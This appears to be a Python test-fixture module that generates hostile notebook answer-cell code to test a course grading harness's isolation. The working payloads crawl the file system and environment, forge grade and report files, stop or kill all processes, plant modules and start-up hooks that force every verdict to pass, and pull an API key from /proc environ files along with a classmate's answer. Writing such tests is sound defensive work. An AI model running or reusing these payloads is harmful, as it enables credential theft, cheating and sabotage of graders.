"""Answer-cell code that goes after the instructor, the classmates and the grader (issues 24, 26, 29).

Each is added to an otherwise right or unsolved answer cell by the tests of ``test_hostile_class.py``.
Paths and ports are written into the code: the attacker is assumed to know them (an answer cell can
read them off the grading command's own command line when nothing stops it).
"""

from __future__ import annotations

from pathlib import Path


def snooping(marker: str, port: int, places: list[Path]) -> str:
    """Issue 24's attack: read the environment, walk the file system for notebooks and the report,
    append to the report, connect to a local port, list the home folder, then write all it found
    under every temporary folder (and each place it was told of)."""
    return f"""
import json as _json, os as _os, socket as _socket, tempfile as _tempfile
_found = {{"env": dict(_os.environ), "files": {{}}, "homes": {{}}}}
_places = {[str(p) for p in places]!r}
_SYSTEM = ("proc", "sys", "usr", "lib", "lib64", "bin", "sbin", "etc", "dev")
_walked = 0
for _top in ["/", *_places]:
    for _root, _dirs, _files in _os.walk(_top):
        _walked += 1
        _dirs[:] = [] if _walked > 3000 else [d for d in _dirs if _root != "/" or d not in _SYSTEM]
        for _name in _files:
            if _name.endswith((".ipynb", ".csv", ".json", ".html", ".txt")) and len(_found["files"]) < 500:
                _path = _os.path.join(_root, _name)
                try:
                    _found["files"][_path] = open(_path, errors="replace").read(300)
                except OSError:
                    pass
for _place in _places:
    for _name in ("state.json", "grades.csv", "index.html"):
        try:
            with open(_os.path.join(_place, _name), "a") as _f:
                _f.write("FORGED {marker}")
        except OSError:
            pass
try:
    with _socket.create_connection(("127.0.0.1", {port}), timeout=1) as _s:
        _s.sendall(b"{marker}")
except OSError:
    pass
for _home in [_os.path.expanduser("~"), *_places]:
    try:
        _found["homes"][_home] = _os.listdir(_home)
    except OSError:
        pass
_blob = _json.dumps(_found, default=str)
for _folder in [_tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", *_places]:
    try:
        with open(_os.path.join(_folder, "{marker}.json"), "w") as _f:
            _f.write(_blob)
    except OSError:
        pass
"""


# Stop every process in sight (the grading command, its workers, the judge), then answer.
STOP_EVERYTHING = """
import os as _os, signal as _signal
for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGSTOP)
        except OSError:
            pass
"""

# Kill every grading process in sight but this one: the command, its workers, the classmates' jobs.
KILL_THE_GRADERS = """
import os as _os, signal as _signal
for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _line = _f.read()
    except OSError:
        continue
    if _pid != _os.getpid() and (b"harness_lab" in _line or b"harness-lab" in _line):
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
"""

# What a planted module does when someone imports it: every verdict of that process becomes a pass.
PLANTED = """
import sys as _sys
_report = _sys.modules.get("harness_lab.grading.report")
if _report is not None:
    _report.Report.passed = property(lambda self: True)
    _report.Check.passed = True
    _report.guarded = lambda number, title, judge: _report.Check(number, title, True)
"""
PLANTED_NAMES = ("pprint", "jsonschema", "anthropic", "httpx", "pydantic", "typing_extensions", "opentelemetry")


def planting(places: list[Path]) -> str:
    """Round five's attack: modules the judge may import, written into every writable ``sys.path``
    entry, the working folder and each place named; a package ``harness_lab`` and start-up hooks too."""
    return f"""
import os as _os, sys as _sys
_body = {PLANTED!r}
for _dir in {{*[p or "." for p in _sys.path], _os.getcwd(), *{[str(p) for p in places]!r}}}:
    if not _os.path.isdir(_dir) or not _os.access(_dir, _os.W_OK):
        continue
    for _name in {PLANTED_NAMES!r} + ("sitecustomize", "usercustomize"):
        try:
            with open(_os.path.join(_dir, _name + ".py"), "w") as _f:
                _f.write(_body)
        except OSError:
            pass
    if _os.path.exists(_os.path.join(_dir, "harness_lab", "grading", "host.py")):
        continue  # the course's own source: a failing test must not destroy it
    try:
        _os.makedirs(_os.path.join(_dir, "harness_lab", "grading"), exist_ok=True)
        for _init in ("harness_lab/__init__.py", "harness_lab/grading/__init__.py"):
            with open(_os.path.join(_dir, _init), "w") as _f:
                _f.write(_body)
        with open(_os.path.join(_dir, "zz_planted.pth"), "w") as _f:
            _f.write("import sys; exec(" + repr(_body) + ")\\n")
    except OSError:
        pass
"""


def leaking(secret_file: Path, classmate: Path) -> str:
    """Issue 26's leak: the instructor's key and a classmate's answer, carried out in an exception."""
    return f"""
import os as _os
_key = _os.environ.get("ANTHROPIC_API_KEY", "")
for _source in [{str(secret_file)!r}] + [f"/proc/{{p}}/environ" for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        _text = open(_source, "rb").read().decode(errors="replace")
    except OSError:
        continue
    for _part in _text.replace("\\0", "\\n").splitlines():
        if _part.startswith("ANTHROPIC_API_KEY="):
            _key = _key or _part.split("=", 1)[1]
try:  # the first line of the classmate's notebook that this one does not have: their own work
    _mine = set(open(_os.path.join(_os.getcwd(), _os.listdir(_os.getcwd())[0]), errors="replace").read().splitlines())
    _theirs = [l for l in open({str(classmate)!r}, errors="replace").read().splitlines() if l not in _mine][0]
except (OSError, IndexError):
    _theirs = ""
raise RuntimeError("KEY=" + _key + " THEIRS=" + _theirs + "\\nSECOND LINE " + _key)
"""
